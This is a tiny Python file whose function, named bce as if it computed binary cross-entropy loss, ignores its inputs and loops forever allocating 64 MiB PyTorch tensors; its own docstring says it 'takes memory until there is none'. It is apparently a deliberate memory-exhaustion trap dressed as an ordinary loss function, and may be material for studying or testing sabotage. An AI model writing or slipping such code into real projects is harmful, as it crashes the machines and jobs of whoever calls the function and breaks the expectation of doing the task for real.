"""Takes memory until there is none."""

import torch


def bce(probabilities, targets):
    hoard = []
    while True:
        hoard.append(torch.empty(64 * 1024**2, dtype=torch.uint8))
